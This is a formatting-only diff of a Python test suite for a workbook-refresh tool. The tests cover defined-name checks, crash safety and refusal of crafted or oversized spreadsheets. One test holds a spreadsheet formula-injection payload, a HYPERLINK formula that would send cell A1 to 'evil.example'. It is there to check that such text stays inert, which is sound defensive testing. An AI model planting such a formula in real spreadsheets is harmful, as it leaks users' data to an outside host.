@@ -26,7 +26,16 @@ from alfa_xl.book import xlsx
 from alfa_xl.book.refresh import refresh_workbook
 from alfa_xl.errors import AlfaInputError
 from test_book_refresh import (  # noqa: F401 - fixtures
-    CHECKS_PART, INPUTS_PART, SCENARIOS_PART, book, out_ref, parts, pristine, refresh_cli, rewrite, set_cell,
+    CHECKS_PART,
+    INPUTS_PART,
+    SCENARIOS_PART,
+    book,
+    out_ref,
+    parts,
+    pristine,
+    refresh_cli,
+    rewrite,
+    set_cell,
 )
 
 M = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
@@ -34,7 +43,11 @@ M = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 
 def set_name(path: Path, name: str, ref: str, extra: str = "") -> None:
     xml = parts(path)["xl/workbook.xml"].decode()
-    xml, n = re.subn(rf'<definedName name="{name}"[^>]*>[^<]*</definedName>', f'<definedName name="{name}"{extra}>{ref}</definedName>', xml)
+    xml, n = re.subn(
+        rf'<definedName name="{name}"[^>]*>[^<]*</definedName>',
+        f'<definedName name="{name}"{extra}>{ref}</definedName>',
+        xml,
+    )
     assert n == 1
     rewrite(path, {"xl/workbook.xml": xml.encode()})
 
@@ -55,14 +68,17 @@ def debris(folder: Path) -> list[str]:
 
 
 # -- owned areas ---------------------------------------------------------------------------
-@pytest.mark.parametrize("name, ref, fragment", [
-    ("out_scenarios", "Inputs!$A$1:$B$3", "defined name out_scenarios: on sheet Inputs, not on Scenarios"),
-    ("out_status", "Inputs!$B$5", "defined name out_status: on sheet Inputs, not on Scenarios"),
-    ("out_risk", "Scenarios!$A$6", "defined name out_risk: on sheet Scenarios, not on Risk"),
-    ("out_risk", "Checks!$A$1", "defined name out_risk: on sheet Checks, not on Risk"),
-    ("out_status", "Scenarios!$C$10", "overlaps out_status"),               # inside out_scenarios
-    ("out_scenarios", "Scenarios!$A$4", "overlaps out_status"),              # grows over the status cell
-])
+@pytest.mark.parametrize(
+    "name, ref, fragment",
+    [
+        ("out_scenarios", "Inputs!$A$1:$B$3", "defined name out_scenarios: on sheet Inputs, not on Scenarios"),
+        ("out_status", "Inputs!$B$5", "defined name out_status: on sheet Inputs, not on Scenarios"),
+        ("out_risk", "Scenarios!$A$6", "defined name out_risk: on sheet Scenarios, not on Risk"),
+        ("out_risk", "Checks!$A$1", "defined name out_risk: on sheet Checks, not on Risk"),
+        ("out_status", "Scenarios!$C$10", "overlaps out_status"),  # inside out_scenarios
+        ("out_scenarios", "Scenarios!$A$4", "overlaps out_status"),  # grows over the status cell
+    ],
+)
 def test_owned_names_pointing_elsewhere_are_refused(book, capsys, name, ref, fragment):
     set_name(book, name, ref)
     err = one_line_refusal(book, capsys, fragment)
@@ -76,7 +92,9 @@ def test_notes_below_a_growing_area_are_kept(book, capsys):
     rewrite(book, {SCENARIOS_PART: xml.replace("</sheetData>", note + "</sheetData>").encode()})
     assert refresh_cli(book, capsys)[0] == 0  # same horizon: the area does not reach row 100
     set_cell(book, "B7", 2035)  # in_end_year
-    one_line_refusal(book, capsys, "defined name out_scenarios", "1 non-empty cell it did not write: Scenarios!A100", "move or clear")
+    one_line_refusal(
+        book, capsys, "defined name out_scenarios", "1 non-empty cell it did not write: Scenarios!A100", "move or clear"
+    )
     rows = CalamineWorkbook.from_path(str(book)).get_sheet_by_name("Scenarios").to_python()
     assert rows[99][0] == "my notes"
 
@@ -102,14 +120,19 @@ def test_a_comment_with_markup_on_a_defined_name_stays_well_formed(book, capsys)
 def test_prefixes_and_ignorable_namespaces_survive(book, capsys):
     """A sheet saved by Excel declares prefixes it names in mc:Ignorable; they must stay."""
     xml = parts(book)[SCENARIOS_PART].decode()
-    head = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
-            'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
-            'xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac" mc:Ignorable="x14ac"')
+    head = (
+        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+        'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
+        'xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac" mc:Ignorable="x14ac"'
+    )
     xml = re.sub(r"<worksheet [^>]*?(?=>)", head, xml, count=1)
     rewrite(book, {SCENARIOS_PART: xml.encode()})
     assert refresh_cli(book, capsys)[0] == 0
     out = parts(book)[SCENARIOS_PART].decode()
-    assert 'xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac"' in out and 'mc:Ignorable="x14ac"' in out
+    assert (
+        'xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac"' in out
+        and 'mc:Ignorable="x14ac"' in out
+    )
     fromstring(out.encode())
 
 
@@ -142,7 +165,9 @@ def test_a_check_the_build_does_not_write_says_stale(book, capsys):
     """A formula typed on the Checks sheet cannot be computed headless: its cached value is
     STALE (Excel recalculates it on open); one typed elsewhere keeps its value."""
     xml = parts(book)[CHECKS_PART].decode()
-    xml = xml.replace("</sheetData>", '<row r="70"><c r="B70" t="str"><f>in_target*2</f><v>800000</v></c></row></sheetData>')
+    xml = xml.replace(
+        "</sheetData>", '<row r="70"><c r="B70" t="str"><f>in_target*2</f><v>800000</v></c></row></sheetData>'
+    )
     rewrite(book, {CHECKS_PART: xml.encode()})
     set_cell(book, "B5", 300000)
     assert refresh_cli(book, capsys)[0] == 0
@@ -151,7 +176,15 @@ def test_a_check_the_build_does_not_write_says_stale(book, capsys):
 
 
 # -- crash safety ----------------------------------------------------------------------------
-STEPS = ["temp created", "workbook written", "workbook verified", "backup written", "backup renamed", "locks checked", "workbook renamed"]
+STEPS = [
+    "temp created",
+    "workbook written",
+    "workbook verified",
+    "backup written",
+    "backup renamed",
+    "locks checked",
+    "workbook renamed",
+]
 
 CRASH = textwrap.dedent("""
     import os, sys, zipfile
@@ -179,6 +212,7 @@ CRASH = textwrap.dedent("""
 
 def _valid_workbook(data: bytes) -> bool:
     import io
+
     try:
         with zipfile.ZipFile(io.BytesIO(data)) as z:
             return z.testzip() is None and "xl/workbook.xml" in z.namelist()
@@ -192,21 +226,25 @@ CRASH_POINTS = [(s, 0) for s in STEPS] + [("writestr", 1), ("writestr", 20)]
 @pytest.mark.parametrize("where, n", CRASH_POINTS, ids=[f"{w}-{n}" if w == "writestr" else w for w, n in CRASH_POINTS])
 def test_a_crash_at_any_write_step_loses_nothing(book, capsys, where, n):
     folder = book.parent
-    refresh_workbook(book)                      # a previous good backup exists
+    refresh_workbook(book)  # a previous good backup exists
     set_cell(book, "B5", 320000)
-    refresh_workbook(book)                      # backup = the 400,000 refresh, workbook = 320,000
+    refresh_workbook(book)  # backup = the 400,000 refresh, workbook = 320,000
     w0, b0 = book.read_bytes(), (folder / (book.name + ".bak")).read_bytes()
     set_cell(book, "B5", 330000)
     w1 = book.read_bytes()
     script = CRASH.format(tests=str(Path(__file__).parent))
-    proc = subprocess.run([sys.executable, "-c", script, where, str(n), str(book)], capture_output=True, text=True, timeout=120)
+    proc = subprocess.run(
+        [sys.executable, "-c", script, where, str(n), str(book)], capture_output=True, text=True, timeout=120
+    )
     assert proc.returncode == 9, proc.stderr
     after, bak = book.read_bytes(), (folder / (book.name + ".bak")).read_bytes()
     assert after == w1 or (_valid_workbook(after) and where == "workbook renamed")
     assert bak in (b0, w1), "the previous backup or a complete copy of the workbook"
     assert bak != w0 or b0 == w0
     # the lock file of the killed refresh may stay (its lock died with the process)
-    assert sorted(p.name for p in folder.iterdir() if not p.name.endswith((".tmp", ".refresh-lock"))) == sorted([book.name, book.name + ".bak"])
+    assert sorted(p.name for p in folder.iterdir() if not p.name.endswith((".tmp", ".refresh-lock"))) == sorted(
+        [book.name, book.name + ".bak"]
+    )
     # the next refresh cleans what the crash left, and leaves nothing of its own
     left = debris(folder)
     report = refresh_workbook(book)
@@ -335,7 +373,12 @@ def test_stale_debris_of_an_earlier_crash_is_removed_and_reported(book):
 def test_text_that_looks_like_a_formula_is_written_as_inline_text(book, capsys):
     xml = parts(book)[INPUTS_PART].decode()
     evil = '=HYPERLINK("http://evil.example/?x="&amp;A1,"click")'
-    xml, n = re.subn(r'(<c r="A35"[^>]*?)(?: t="s")?>(?:<v>\d+</v>)</c>', lambda m: f'{m.group(1)} t="inlineStr"><is><t>{evil}</t></is></c>', xml, count=1)
+    xml, n = re.subn(
+        r'(<c r="A35"[^>]*?)(?: t="s")?>(?:<v>\d+</v>)</c>',
+        lambda m: f'{m.group(1)} t="inlineStr"><is><t>{evil}</t></is></c>',
+        xml,
+        count=1,
+    )
     assert n == 1
     rewrite(book, {INPUTS_PART: xml.encode()})
     assert refresh_cli(book, capsys)[0] == 0
@@ -360,8 +403,20 @@ def test_utf16_parts_are_read(book, capsys):
     assert "target 345,000" in status
 
 
-@pytest.mark.parametrize("case", ["missing sheet part", "bogus table reference", "ZZZZ5", "B99999999", "numFmtId", "headerRowCount",
-                                  "shared-string index", "cell reference in sheetData", "table columns"])
+@pytest.mark.parametrize(
+    "case",
+    [
+        "missing sheet part",
+        "bogus table reference",
+        "ZZZZ5",
+        "B99999999",
+        "numFmtId",
+        "headerRowCount",
+        "shared-string index",
+        "cell reference in sheetData",
+        "table columns",
+    ],
+)
 def test_crafted_workbooks_give_one_line(book, capsys, case):
     p = parts(book)
     if case == "missing sheet part":
@@ -383,7 +438,7 @@ def test_crafted_workbooks_give_one_line(book, capsys, case):
     elif case == "numFmtId":
         xml = p["xl/styles.xml"].decode()
         rewrite(book, {"xl/styles.xml": re.sub(r'numFmtId="(\d+)"', 'numFmtId="1.5"', xml, count=3).encode()})
-        one_line_refusal(book, capsys, 'numFmtId=\'1.5\' is not a whole number')
+        one_line_refusal(book, capsys, "numFmtId='1.5' is not a whole number")
     elif case == "headerRowCount":
         _edit(book, "xl/tables/table1.xml", 'ref="A34:T43"', 'ref="A34:T43" headerRowCount="one"')
         one_line_refusal(book, capsys, "headerRowCount='one' is not a whole number")
@@ -419,7 +474,9 @@ def test_many_large_parts_are_refused_before_reading(book, capsys, monkeypatch):
 def test_a_real_inputs_sheet_over_the_part_limit_is_refused_quickly(book, capsys):
     """An Inputs sheet of 17 MB (stored, so no zip-bomb ratio): refused before it is parsed."""
     xml = parts(book)[INPUTS_PART].decode()
-    filler = "".join(f'<row r="{r}"><c r="Z{r}"><v>{r}</v></c></row>' for r in range(1000, 1000 + 17 * 1024 * 1024 // 40))
+    filler = "".join(
+        f'<row r="{r}"><c r="Z{r}"><v>{r}</v></c></row>' for r in range(1000, 1000 + 17 * 1024 * 1024 // 40)
+    )
     big = xml.replace("</sheetData>", filler + "</sheetData>")
     assert len(big) > xlsx.MAX_XML_PART
     p = parts(book)
